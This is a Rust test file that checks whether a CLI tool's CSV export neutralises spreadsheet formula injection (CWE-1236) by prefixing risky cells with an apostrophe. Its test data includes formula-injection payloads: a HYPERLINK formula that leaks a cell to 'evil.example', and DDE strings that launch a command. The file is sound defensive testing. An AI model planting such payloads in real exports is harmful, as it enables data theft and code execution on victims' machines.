//! The CSV table opened in a spreadsheet reader (openpyxl, from the Python
//! package index, pinned by scripts/install-test-tools.sh): no cell of it is
//! a formula, whatever the catalogue's descriptions and scenarios begin
//! with (CWE-1236), and each such cell reads as its text with a `'` before.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

/// Descriptions and scenarios a spreadsheet would take for formulas.
const HOSTILE: &str = r#"
[[errors]]
status = 400
error = "BAD"
code = "CSV-0001"
description = "=HYPERLINK('https://evil.example/?leak='&A1,'Click')"
scenario = "=cmd|' /C calc'!A0"

[[errors]]
status = 400
error = "BAD"
code = "CSV-0002"
description = "+SUM(1,2)"
scenario = "-2+3"

[[errors]]
status = 400
error = "BAD"
code = "CSV-0003"
description = "@SUM(1+1)*cmd|' /C calc'!A0"
scenario = "=1+1"
"#;

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("..")
}

/// The reader's output for `table`: `{"formulas": [...], "cells": [[...]]}`.
fn open_in_spreadsheet(table: &Path) -> Option<serde_json::Value> {
    let run = || -> Output {
        Command::new("python3")
            .arg(root().join("cli/tests/peers/spreadsheet.py"))
            .arg(table)
            .arg(table.with_extension("xlsx"))
            .env("PYTHONPATH", root().join("target/pytools"))
            .output()
            .expect("python3 runs")
    };
    let mut output = run();
    if !output.status.success() && String::from_utf8_lossy(&output.stderr).contains("openpyxl") {
        let _ = Command::new("bash")
            .arg(root().join("scripts/install-test-tools.sh"))
            .status();
        output = run();
    }
    if !output.status.success() {
        eprintln!(
            "SKIPPED: openpyxl cannot run on this machine (scripts/install-test-tools.sh failed to provide it): {}",
            String::from_utf8_lossy(&output.stderr)
        );
        return None;
    }
    Some(serde_json::from_slice(&output.stdout).expect("the reader prints JSON"))
}

#[test]
fn no_cell_of_the_csv_is_a_formula_in_a_spreadsheet() {
    let dir = std::env::temp_dir().join(format!("errcat-spreadsheet-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let catalogue = dir.join("hostile.toml");
    std::fs::write(&catalogue, HOSTILE).unwrap();
    let output = Command::new(env!("CARGO_BIN_EXE_errcat"))
        .arg("--catalogue")
        .arg(&catalogue)
        .args(["table", "--format", "csv"])
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let table = dir.join("table.csv");
    std::fs::write(&table, &output.stdout).unwrap();
    // The same table with its cells as the catalogue has them: the reader
    // finds the formulas there, so finding none below means something.
    let raw = String::from_utf8(output.stdout.clone())
        .unwrap()
        .replace(",'", ",")
        .replace(",\"'", ",\"");
    let unguarded = dir.join("unguarded.csv");
    std::fs::write(&unguarded, raw).unwrap();

    let (Some(opened), Some(control)) =
        (open_in_spreadsheet(&table), open_in_spreadsheet(&unguarded))
    else {
        return;
    };
    std::fs::remove_dir_all(&dir).unwrap();
    assert!(
        control["formulas"].as_array().unwrap().len() >= 3,
        "{control}"
    );
    assert_eq!(opened["formulas"], serde_json::json!([]), "{opened}");
    let cells = opened["cells"].as_array().unwrap();
    assert_eq!(cells.len(), 4);
    let texts: Vec<(&str, &str)> = cells[1..]
        .iter()
        .map(|row| (row[3].as_str().unwrap(), row[4].as_str().unwrap()))
        .collect();
    assert_eq!(
        texts,
        [
            (
                "'=HYPERLINK('https://evil.example/?leak='&A1,'Click')",
                "'=cmd|' /C calc'!A0"
            ),
            ("'+SUM(1,2)", "'-2+3"),
            ("'@SUM(1+1)*cmd|' /C calc'!A0", "'=1+1"),
        ]
    );
}
